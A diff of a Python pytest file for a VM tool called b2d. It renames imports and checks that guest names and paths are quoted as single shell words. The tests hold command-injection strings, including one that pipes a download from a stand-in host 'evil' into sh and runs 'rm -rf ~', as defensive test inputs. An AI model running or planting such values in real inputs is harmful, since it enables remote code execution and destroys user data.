@@ -5,12 +5,12 @@ from pathlib import Path
 
 import pytest
 
-from b2d import places, unpacking
-from b2d.drivers import qemu_folders
+from b2d.drivers.qemu import shared_folders
 from b2d.errors import B2dError, WrongState
-from b2d.layout import MachinePaths
-from b2d.model import MachineState
-from b2d.originals import Original, refuse_unless_off
+from b2d.guest.transfer import copy_endpoints, tar_extract
+from b2d.importing.candidates import Original, refuse_unless_off
+from b2d.models import MachineState
+from b2d.paths import MachinePaths
 from tests.line_guest import guest
 
 EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"
@@ -20,7 +20,7 @@ def told(folder: Path, *lines: str) -> WrongState:
     paths = MachinePaths(folder)
     answer = [f"{one}\n".encode() for one in (*lines, "folders let-go")]
     with guest(paths.line_socket, answer), pytest.raises(WrongState) as caught:
-        qemu_folders.take(paths, "box")
+        shared_folders.take(paths, "box")
     return caught.value
 
 
@@ -69,11 +69,11 @@ def test_a_name_out_of_a_settings_file_is_one_word_of_a_command(state: MachineSt
 
 def test_a_folder_that_is_not_there_is_one_word_of_a_command(tmp_path: Path) -> None:
     with pytest.raises(B2dError) as caught:
-        unpacking.landing(f"{tmp_path}/a b;id/x", "x", many=False)
+        tar_extract.landing(f"{tmp_path}/a b;id/x", "x", many=False)
     assert shlex.split(caught.value.hint) == ["mkdir", "-p", f"{tmp_path}/a b;id"]
 
 
 def test_a_path_that_is_no_machine_s_is_one_word() -> None:
     with pytest.raises(B2dError) as caught:
-        places.parse("a b;id:x")
+        copy_endpoints.parse("a b;id:x")
     assert shlex.split(caught.value.hint.partition(", if")[0]) == ["./a b;id:x"]
